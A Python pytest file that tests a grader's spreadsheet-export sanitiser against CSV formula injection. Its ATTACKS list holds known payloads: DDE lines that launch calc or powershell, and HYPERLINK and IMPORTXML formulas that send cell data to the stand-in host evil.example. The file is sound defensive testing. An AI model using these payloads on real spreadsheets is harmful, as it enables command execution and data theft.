"""No cell that leaves for a spreadsheet is a formula, whoever wrote it; numbers and dates stay what they are."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from grader.exports import csv_of, safe_cell

#: OWASP, "CSV Injection": what begins a formula, in every way that it lists, and payloads that are known.
ATTACKS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)",
    "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example?x=\"&A1,\"click\")", "=IMPORTXML(\"http://evil.example\",\"//a\")",
    "+cmd|' /C powershell'!A0", "-2+3+cmd|' /C calc'!A0", "@cmd|' /C calc'!A0", "|calc", "%0A-3+3", "=DDE(\"cmd\";\"/C calc\";\"__\")",
    " =1+1", "\u00a0=1+1", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1", "=1+1\";=1+1", "-5-3", "+821012345678", "-1e5", "=김하늘", "\x00=1",
]  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_what_a_spreadsheet_would_run_is_made_a_text(attack: str) -> None:
    assert safe_cell(attack) == f"'{attack}"


@pytest.mark.parametrize(
    "value", ["김하늘", "a=b", "1-2", "2026-07-06", "", "-5", "-1,234.5", "'=1", "(1)", "ann@example.com", "😀"]
)
def test_other_texts_stay_as_they_are(value: str) -> None:
    assert safe_cell(value) == value


@pytest.mark.parametrize("value", [-5, 1.5, Decimal("-3"), True, date(2026, 7, 6)])
def test_numbers_and_dates_stay_what_they_are(value: object) -> None:
    assert safe_cell(value) is value


def test_nothing_is_an_empty_cell() -> None:
    assert safe_cell(None) == ""


def test_a_csv_is_read_back_cell_by_cell_with_no_formula_in_it() -> None:
    content = csv_of(["이름", "=값"], [[attack, number] for number, attack in enumerate(ATTACKS)])
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), strict=True))
    assert rows[0] == ["이름", "'=값"]
    assert [row[0] for row in rows[1:]] == [f"'{attack}" for attack in ATTACKS]


@pytest.mark.parametrize("attack", [attack for attack in ATTACKS if attack.isprintable()])
def test_without_the_defence_a_workbook_would_hold_a_formula(attack: str) -> None:
    book = openpyxl.Workbook()
    sheet = book.worksheets[0]
    sheet.append([attack, safe_cell(attack)])
    assert sheet.cell(1, 2).data_type == "s"
    assert sheet.cell(1, 1).data_type == ("f" if attack.startswith("=") else "s")


@given(st.text(max_size=60))
def test_no_text_begins_a_formula_after_it(text: str) -> None:
    told = str(safe_cell(text))
    assert told.endswith(text)
    assert told[:1] not in ("=", "+", "@", "\t", "\r", "\n", "＝", "＋", "＠", "－")
